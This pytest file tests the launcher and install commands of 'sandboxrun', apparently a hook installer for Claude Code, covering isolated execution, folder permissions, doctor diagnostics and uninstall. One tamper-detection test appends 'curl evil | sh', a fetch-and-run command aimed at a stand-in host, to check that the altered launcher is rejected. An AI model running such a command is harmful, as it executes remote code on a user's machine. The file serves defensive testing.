"""The launcher file `install` writes in the user's data folder (`_install.launcher`): what
Claude Code shows the model of an installed hook's command names it, not the venv."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
from pathlib import Path

import pytest

import sandboxrun._cli as cli
from sandboxrun._errors import ConfigError
from sandboxrun._install import command as _command
from sandboxrun._install import launcher as _launcher
from sandboxrun._install import managed as _managed
from sandboxrun._install.status import notes

SETTINGS = {"hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "./g.sh"}]}]}}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / ".claude").mkdir(parents=True)
    (root / ".git").mkdir()
    (root / ".claude" / "settings.json").write_text(json.dumps(SETTINGS))
    return root


@pytest.fixture(autouse=True)
def _no_managed_settings(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """This machine's managed settings are not read (with forwarders in them, `doctor`
    says nothing of a project's files: the agent runs none of them itself)."""
    monkeypatch.setattr(_managed, "managed_file", lambda *a: str(home / "no-managed.json"))


def install(project: Path, home: Path, *more: str, verb: str = "install") -> int:
    return cli.main([verb, "--agent", "claude", "--workspace", str(project),
                     "--home", str(home), *more])  # fmt: skip


def command_of(project: Path) -> str:
    data = json.loads((project / ".claude" / "settings.json").read_text())
    return str(data["hooks"]["PreToolUse"][0]["hooks"][0]["command"])


def test_the_launcher_starts_its_python_isolated_and_says_whether_it_can(tmp_path: Path) -> None:
    """`hook ARGS` execs `PYTHON -I SCRIPT ARGS` (each argument as given); `hook --ready`
    only says whether both are there; `target` reads back only a launcher of ours."""
    python = tmp_path / "venv" / "python3"
    python.parent.mkdir()
    python.write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
    python.chmod(0o755)
    script = tmp_path / "venv" / "sandboxrun-hook"
    script.write_text("")
    home = tmp_path / "home"
    hook = _launcher.write(str(home), str(python), str(script))
    assert hook == str(home / ".local/share/sandboxrun/hook")
    assert os.stat(os.path.dirname(hook)).st_mode & 0o777 == 0o700
    done = subprocess.run([hook, "exec", "--", "a b", "$HOME", ""], capture_output=True, text=True)
    assert done.stdout.split("\n")[:-1] == ["-I", str(script), "exec", "--", "a b", "$HOME", ""]
    assert subprocess.run([hook, "--ready"]).returncode == 0
    assert _launcher.target(hook) == [str(python), str(script)]
    script.unlink()
    assert subprocess.run([hook, "--ready"]).returncode == 1
    done = subprocess.run([hook, "exec"], capture_output=True, text=True)
    assert done.returncode == 127 and done.stderr.startswith(f"sandboxrun: {script} is missing")
    with open(hook, "a") as f:
        f.write("curl evil | sh\n")
    assert _launcher.target(hook) is None  # not byte for byte ours: nothing read from it


def test_the_launcher_folder_is_the_users_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Writable by others (a umask of 002), it is made the user's alone; someone else's,
    install is refused."""
    folder = tmp_path / "home" / ".local" / "share" / "sandboxrun"
    folder.mkdir(parents=True)
    folder.chmod(0o777)
    _launcher.write(str(tmp_path / "home"), "/usr/bin/python3", "/x")
    assert folder.stat().st_mode & 0o777 == 0o755
    monkeypatch.setattr(os, "geteuid", lambda: os.stat(folder).st_uid + 1)
    with pytest.raises(ConfigError, match="must be a folder of yours"):
        _launcher.write(str(tmp_path / "home"), "/usr/bin/python3", "/x")


def test_install_writes_the_short_path_and_doctor_names_what_is_gone(
    project: Path, home: Path
) -> None:
    """A project's wrapper starts the launcher by its one path (no venv path in what the
    agent shows the model); a dry run writes no launcher; `doctor` names a launcher
    gone, or the sandboxrun it starts gone; a fail-closed wrapper blocks in both cases."""
    hook = home / ".local/share/sandboxrun/hook"
    assert install(project, home, "--dry-run") == 0 and not hook.exists()
    assert install(project, home, "--fail-closed") == 0
    command = command_of(project)
    python, _, script = _command.launcher()
    assert str(hook) in command and python not in command and script not in command
    assert notes("claude", [str(project)], str(home)) == []
    for gone in ("script", "launcher"):
        if gone == "script":
            _launcher.write(str(home), python, str(home / "moved" / "sandboxrun-hook"))
            named = str(home / "moved" / "sandboxrun-hook")
        else:
            hook.unlink()
            named = str(hook)
        [note] = notes("claude", [str(project)], str(home))
        assert note.startswith("broken: ") and f"runs {named!r}, which is missing" in note
        done = subprocess.run(["/bin/sh", "-c", command], capture_output=True, cwd=project)
        assert done.returncode == 2 and b"finds no sandboxrun" in done.stderr, done


def test_an_older_install_s_long_wrappers_are_recognised_rewritten_and_uninstalled(
    project: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Wrappers an older install wrote (`PYTHON -I SCRIPT exec ...`, recorded) count as
    installed; installing again writes the launcher's; uninstall gives the bytes back."""
    before = (project / ".claude" / "settings.json").read_bytes()
    monkeypatch.setattr(_command, "launch_for", lambda args, home: _command.launcher)
    assert install(project, home) == 0
    python, flag, script = _command.launcher()
    assert shlex.split(command_of(project))[:4] == [python, flag, script, "exec"]
    assert notes("claude", [str(project)], str(home)) == []
    monkeypatch.undo()
    assert install(project, home) == 0
    assert shlex.split(command_of(project))[:2] == [_launcher.path(str(home)), "exec"]
    assert notes("claude", [str(project)], str(home)) == []
    assert install(project, home, verb="uninstall") == 0
    assert (project / ".claude" / "settings.json").read_bytes() == before
